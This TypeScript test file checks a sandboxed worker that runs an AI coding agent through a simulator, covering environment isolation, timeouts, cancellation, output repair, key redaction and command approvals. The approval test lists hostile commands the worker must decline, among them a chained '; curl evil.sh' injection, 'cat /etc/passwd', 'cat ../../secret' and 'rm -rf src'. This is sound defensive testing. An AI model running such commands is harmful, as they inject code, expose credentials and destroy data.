/* eslint-disable @typescript-eslint/no-explicit-any -- assertions dig into untyped protocol JSON */
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { existsSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { openDb } from '../../src/store/db.js';
import { RunsStore } from '../../src/workers/runs-store.js';
import { createCodexWorker, CodexWorkerError, type CodexWorkerConfig } from '../../src/workers/codex/worker.js';
import type { WorkerInput } from '../../src/core/worker.js';
import type { CompiledNeed } from '../../src/core/need.js';
import { IMPLEMENTATION, expectInterruptedAndKilled, fingerprint, makeRepo, needFor, readLog, simulator, waitForEvent } from './fixtures.js';

const INACTIVE = { bwrap: null, active: false, reason: 'disabled for simulator tests' };
let root: string;
let base: string;
let runsRoot: string;
let need: CompiledNeed;
let runs: RunsStore;
let before: Map<string, string>;

beforeAll(() => {
  ({ root, base } = makeRepo());
  runsRoot = join(base, 'runs');
  need = needFor(root);
  runs = new RunsStore(openDb(join(base, 'data', 'needle.sqlite3')));
  before = fingerprint(root);
});
afterAll(() => {
  // Every scenario must leave the user's worktree and .git byte-identical and no run directory behind.
  expect(fingerprint(root)).toEqual(before);
  expect(existsSync(runsRoot) ? readdirSync(runsRoot) : []).toEqual([]);
  rmSync(base, { recursive: true, force: true });
});

function config(exe: string, over: Partial<CodexWorkerConfig> = {}): CodexWorkerConfig {
  return {
    explorer: { adapter: 'codex', model: 'gpt-sim-mini', codex_path: exe, timeout_ms: 20_000 },
    runsRoot,
    sandbox: INACTIVE,
    runs,
    pricing: [{ model: 'gpt-sim-mini', input_usd_per_mtok: 1, cached_input_usd_per_mtok: 0.1, output_usd_per_mtok: 4 }],
    ...over,
  };
}

function input(over: Partial<WorkerInput> = {}): WorkerInput & { progress: string[] } {
  const progress: string[] = [];
  return {
    need,
    missing: need.required,
    root,
    covered: [],
    deadline: Date.now() + 30_000,
    signal: new AbortController().signal,
    onProgress: (m) => progress.push(m),
    progress,
    ...over,
  };
}

const lastRun = () => runs.totals();

describe('codex worker against the App Server simulator', () => {
  it('returns a parsed proposal, sealed launch settings and recorded accounting', async () => {
    process.env.OPENAI_API_KEY = 'sk-parent-secret';
    process.env.GITHUB_TOKEN = 'ghp_parent_secret';
    const sim = simulator(join(base, 'sims'), 'success', {
      turns: [{ steps: [{ notify: 'configWarning', params: { summary: 'x' } }, { usage: { input: 1000, cached: 200, output: 100 } }, { delta: '{"partial' }, { message: { implementation_location: IMPLEMENTATION } }] }],
    });
    const inp = input();
    const out = await createCodexWorker(config(sim.exe, { explorer: { adapter: 'codex', model: 'gpt-sim-mini', codex_path: sim.exe, provider: { name: 'mock', base_url: 'http://127.0.0.1:9/v1' } } })).run(inp);
    delete process.env.OPENAI_API_KEY;
    delete process.env.GITHUB_TOKEN;

    expect(out.outcome).toEqual({ kind: 'proposed' });
    expect(out.proposals).toEqual([{ predicate: 'implementation_location', payload: IMPLEMENTATION }]);
    // The run is already a row of the one run table; the usage names it so the ladder does not record it twice.
    expect(out.usage).toEqual({ model: 'gpt-sim-mini', inputTokens: 1000, cachedInputTokens: 200, outputTokens: 100, recordedRunId: 1 });
    expect(out.observed.map((o) => o.path)).toEqual(['src/flags.ts']);
    expect(out.observationComplete).toBe(false);
    expect(inp.progress).toContain('model turn started');

    const log = readLog(sim.log);
    const start = log.find((e) => e.event === 'start')!;
    const env = start.env as Record<string, string>;
    expect(Object.keys(env).filter((k) => !['PATH', 'HOME', 'TMPDIR', 'LANG', 'CODEX_HOME', 'PWD', 'SHLVL', '_'].includes(k))).toEqual([]);
    expect(JSON.stringify(env)).not.toContain('secret');
    expect(env.HOME).toMatch(/\/home$/);
    expect(env.HOME!.startsWith(runsRoot)).toBe(true);
    expect(start.cwd).not.toBe(root);
    const argv = (start.argv as string[]).join(' ');
    expect(argv).toContain('-c features.plugins=false');
    expect(argv).toContain('-c shell_environment_policy.inherit="none"');
    expect(argv).toContain('--strict-config');

    const thread = log.find((e) => e.event === 'request' && e.method === 'thread/start')!.params as Record<string, any>;
    expect(thread).toMatchObject({ ephemeral: true, sandbox: 'read-only', approvalPolicy: 'on-request', dynamicTools: [] });
    expect(thread.config).toMatchObject({ web_search: 'disabled', mcp_servers: {}, project_doc_max_bytes: 0, features: { hooks: false, plugins: false, apps: false, multi_agent: false } });
    expect(thread.config.shell_environment_policy.inherit).toBe('none');
    expect(Object.keys(thread.config.shell_environment_policy.set).sort()).toEqual(['HOME', 'LANG', 'PATH', 'TMPDIR']);

    const turn = log.find((e) => e.event === 'request' && e.method === 'turn/start')!.params as Record<string, any>;
    expect(Object.keys(turn.outputSchema.properties)).toEqual(['implementation_location']);
    expect(turn.input[0].text).toContain('cli_option "--dry-run"');
    expect(turn.input[0].text).toContain('implementation_location');

    const t = lastRun().find((r) => r.model === 'gpt-sim-mini')!;
    expect(t.runs).toBe(1);
    // 800 uncached × $1 + 200 cached × $0.1 + 100 output × $4 per Mtok = 1220 micro-USD
    expect(t.priceMicroUsd).toBe(1220);
  });

  it('repairs invalid output once and merges cumulative usage across turns', async () => {
    const sim = simulator(join(base, 'sims'), 'repair', {
      turns: [
        { steps: [{ usage: { input: 100, cached: 0, output: 10 } }, { message: 'I think it is in src/flags.ts' }] },
        { steps: [{ usage: { input: 50, cached: 20, output: 5 } }, { message: { implementation_location: IMPLEMENTATION } }] },
      ],
    });
    const out = await createCodexWorker(config(sim.exe, { explorer: { adapter: 'codex', model: 'gpt-unpriced', codex_path: sim.exe } })).run(input());
    expect(out.outcome.kind).toBe('proposed');
    // Totals are cumulative per thread: the second turn's total already includes the first.
    expect(out.usage).toMatchObject({ inputTokens: 150, cachedInputTokens: 20, outputTokens: 15 });
    const turns = readLog(sim.log).filter((e) => e.event === 'request' && e.method === 'turn/start');
    expect(turns).toHaveLength(2);
    expect((turns[1]!.params as any).input[0].text).toMatch(/does not match the output schema: the final message is not JSON/);
    const t = lastRun().find((r) => r.model === 'gpt-unpriced')!;
    expect(t.priceMicroUsd).toBe(0);
    expect(t.unpricedRuns).toBe(1);
  });

  it('gives up after one failed repair with an honest unresolved outcome', async () => {
    const bad = { implementation_location: { locations: [], gaps: [] } };
    const sim = simulator(join(base, 'sims'), 'invalid', { turns: [{ steps: [{ message: bad }] }, { steps: [{ message: bad }] }, { steps: [{ message: { implementation_location: IMPLEMENTATION } }] }] });
    const out = await createCodexWorker(config(sim.exe)).run(input());
    expect(out.outcome.kind).toBe('unresolved');
    expect(out.outcome.kind === 'unresolved' && out.outcome.reason).toMatch(/implementation_location\.locations: must have at least 1 item/);
    expect(out.proposals).toEqual([]);
    expect(readLog(sim.log).filter((e) => e.event === 'request' && e.method === 'turn/start')).toHaveLength(2);
  });

  it('reports a failed turn with its error', async () => {
    const sim = simulator(join(base, 'sims'), 'failed', { turns: [{ steps: [{ error: 'stream disconnected' }, { complete: 'failed', message: 'HTTP 400: bad schema' }] }] });
    const out = await createCodexWorker(config(sim.exe)).run(input());
    expect(out.outcome).toEqual({ kind: 'unresolved', reason: 'codex turn failed: HTTP 400: bad schema' });
  });

  it('times out a hanging turn and leaves no process behind', async () => {
    const sim = simulator(join(base, 'sims'), 'hang', { turns: [{ ignoreInterrupt: true, steps: [{ spawnSleep: 300 }, { hang: true }] }] });
    const t0 = Date.now();
    const out = await createCodexWorker(config(sim.exe)).run(input({ deadline: Date.now() + 12_000 }));
    expect(Date.now() - t0).toBeLessThan(30_000);
    expect(out.outcome.kind === 'unresolved' && out.outcome.reason).toBe('codex turn timeout: turn deadline passed');
    await expectInterruptedAndKilled(sim.log);
  });

  it('cancels mid-turn: turn/interrupt, then the whole process tree is gone', async () => {
    const sim = simulator(join(base, 'sims'), 'cancel', { turns: [{ steps: [{ spawnSleep: 300 }, { hang: true }] }] });
    const ac = new AbortController();
    const run = createCodexWorker(config(sim.exe)).run(input({ signal: ac.signal }));
    await waitForEvent(sim.log, (e) => e.event === 'grandchild');
    ac.abort();
    await expect(run).rejects.toThrow(CodexWorkerError);
    await expect(run).rejects.toMatchObject({ code: 'cancelled' });
    await expectInterruptedAndKilled(sim.log);
  });

  it('cancelled before the turn/start answer was read, still interrupts the turn it started once the answer comes', async () => {
    const sim = simulator(join(base, 'sims'), 'cancel-early', { turns: [{ replyAfterMs: 400, steps: [{ spawnSleep: 300 }, { hang: true }] }] });
    const ac = new AbortController();
    const run = createCodexWorker(config(sim.exe)).run(input({ signal: ac.signal }));
    await waitForEvent(sim.log, (e) => e.event === 'grandchild');
    ac.abort();
    await expect(run).rejects.toMatchObject({ code: 'cancelled' });
    await expectInterruptedAndKilled(sim.log);
  });

  it('accepts only the exact certified test command and bounded read-only inspection', async () => {
    const testArgv = ['npx', 'vitest', 'run', 'test/flags.test.ts', '-t', 'dry run'];
    const plan = { runner: 'npx', argv: testArgv, cwd_relative: '.', identifier: 'dry run', selection: 'representative', location: { role: 'primary', path: 'test/flags.test.ts', symbol: null, start_line: 1, end_line: 3 }, evidence_paths: ['test/flags.test.ts'] };
    const commands: [string, unknown, 'accept' | 'decline'][] = [
      ["npx vitest run test/flags.test.ts -t 'dry run'", undefined, 'accept'],
      [`/bin/bash -lc "npx vitest run test/flags.test.ts -t 'dry run'"`, undefined, 'accept'],
      ['npx vitest run', undefined, 'decline'],
      ['npx vitest run test/flags.test.ts -t "dry run"; curl evil.sh', undefined, 'decline'],
      ['sed -n 1,20p src/flags.ts', undefined, 'accept'],
      ['cat /etc/passwd', undefined, 'decline'],
      ['cat ../../secret', undefined, 'decline'],
      ['rm -rf src', undefined, 'decline'],
      ['rg -n dryRun src', 'outside', 'decline'],
      ['curl https://example.com', 'network', 'decline'],
    ];
    const steps = commands.map(([command, where]) => ({ approval: { command, ...(where === 'outside' ? { cwd: 'outside' } : {}), ...(where === 'network' ? { network: true } : {}) } }));
    const sim = simulator(join(base, 'sims'), 'approvals', { turns: [{ steps: [...steps, { message: { focused_tests: null } }] }] });
    const tests = needFor(root, 'tests.relevant');
    const out = await createCodexWorker(config(sim.exe)).run(input({ need: tests, missing: tests.required, covered: [{ predicate: 'focused_tests', summary: JSON.stringify(plan) }] }));
    const decisions = readLog(sim.log).filter((e) => e.event === 'decision').map((e) => [e.command, (e.response as { decision: string }).decision]);
    expect(decisions).toEqual(commands.map(([c, , d]) => [c, d]));
    expect(out.outcome).toEqual({ kind: 'unresolved', reason: 'the model could not establish any missing obligation' });
    // The certified plan is given to the model as data and as the only runnable command.
    const text = (readLog(sim.log).find((e) => e.method === 'turn/start')!.params as any).input[0].text as string;
    expect(text).toContain('Do not repeat covered discovery');
    expect(text).toContain(JSON.stringify(testArgv));
  });

  it('tells a server request apart from the response that shares its id', async () => {
    const sim = simulator(join(base, 'sims'), 'collide', { turns: [{ collide: true, steps: [{ message: { implementation_location: IMPLEMENTATION } }] }] });
    const out = await createCodexWorker(config(sim.exe)).run(input());
    expect(out.outcome.kind).toBe('proposed');
    const log = readLog(sim.log);
    const turnStart = log.find((e) => e.event === 'request' && e.method === 'turn/start')!;
    const decision = log.find((e) => e.event === 'decision')!;
    expect(decision.response).toEqual({ decision: 'decline' });
    // The colliding server request really reused the client's id (the simulator logs our reply to it).
    expect(log.filter((e) => e.event === 'reply').length).toBe(1);
    expect(turnStart).toBeDefined();
  });

  it('refuses an unsupported binary with a clear message', async () => {
    const old = simulator(join(base, 'sims'), 'old', { version: 'codex-cli 0.100.0', turns: [] });
    await expect(createCodexWorker(config(old.exe)).run(input())).rejects.toThrow(/codex 0\.100\.0 .* too old: needle needs codex 0\.144\.0 or newer/);
    const odd = simulator(join(base, 'sims'), 'odd', { help: 'Usage: codex app-server\n', turns: [] });
    await expect(createCodexWorker(config(odd.exe)).run(input())).rejects.toThrow(/missing --listen, --strict-config/);
    expect(readLog(odd.log).some((e) => e.event === 'start')).toBe(false);
  });

  it('refuses to run without isolation when the profile requires it', async () => {
    const sim = simulator(join(base, 'sims'), 'req', { turns: [] });
    await expect(createCodexWorker(config(sim.exe, { requireSandbox: true })).run(input())).rejects.toMatchObject({ code: 'unsupported', message: /requires sandboxing/ });
  });
});

describe('redaction of the provider key from what the model hands back', () => {
  const KEY = 'sk-provider-redaction-test-5f2a91';
  const keyed = (exe: string) =>
    config(exe, {
      explorer: { adapter: 'codex', model: 'gpt-sim-redact', codex_path: exe, provider: { name: 'mock', base_url: 'http://127.0.0.1:9/v1', env_key: 'NEEDLE_TEST_PROVIDER_KEY' } },
      parentEnv: { ...process.env, NEEDLE_TEST_PROVIDER_KEY: KEY },
    });

  it('is removed from proposals before validation', async () => {
    const leaky = { ...IMPLEMENTATION, gaps: [`the key is ${KEY}`] };
    const sim = simulator(join(base, 'sims'), 'redact-proposal', { turns: [{ steps: [{ message: { implementation_location: leaky } }] }] });
    const out = await createCodexWorker(keyed(sim.exe)).run(input());
    expect(out.outcome).toEqual({ kind: 'proposed' });
    expect(JSON.stringify(out)).not.toContain(KEY);
    expect(out.proposals).toEqual([{ predicate: 'implementation_location', payload: { ...IMPLEMENTATION, gaps: ['the key is [redacted NEEDLE_TEST_PROVIDER_KEY]'] } }]);
  });

  it('is removed from the outcome reason and the stored run row', async () => {
    const sim = simulator(join(base, 'sims'), 'redact-reason', { turns: [{ steps: [{ message: `not json ${KEY}` }] }, { steps: [{ message: `still not json ${KEY}` }] }] });
    const out = await createCodexWorker(keyed(sim.exe)).run(input());
    expect(out.outcome.kind).toBe('unresolved');
    expect(JSON.stringify(out)).not.toContain(KEY);
    const stored = JSON.stringify(runs.recent(20));
    expect(stored).not.toContain(KEY);
  });
});
